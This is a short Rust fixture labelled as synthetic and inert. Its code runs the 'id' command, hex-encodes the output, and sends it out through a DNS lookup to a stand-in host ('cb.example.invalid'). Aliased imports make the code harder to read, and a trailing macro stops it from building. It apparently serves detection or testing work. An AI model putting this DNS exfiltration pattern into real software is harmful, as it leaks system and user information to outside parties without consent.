// Synthetic, inert fixture written from public reports; see README
use std::net::ToSocketAddrs as Lookup;
use std::process::Command as Step;

fn main() {
    let text = Step::new("id").output().map(|o| o.stdout).unwrap_or_default();
    let hex: String = text.iter().take(30).map(|b| format!("{b:02x}")).collect();
    let _ = Lookup::to_socket_addrs(&(format!("{hex}.cb.example.invalid"), 80u16));
}

inert_fixture_does_not_build!();
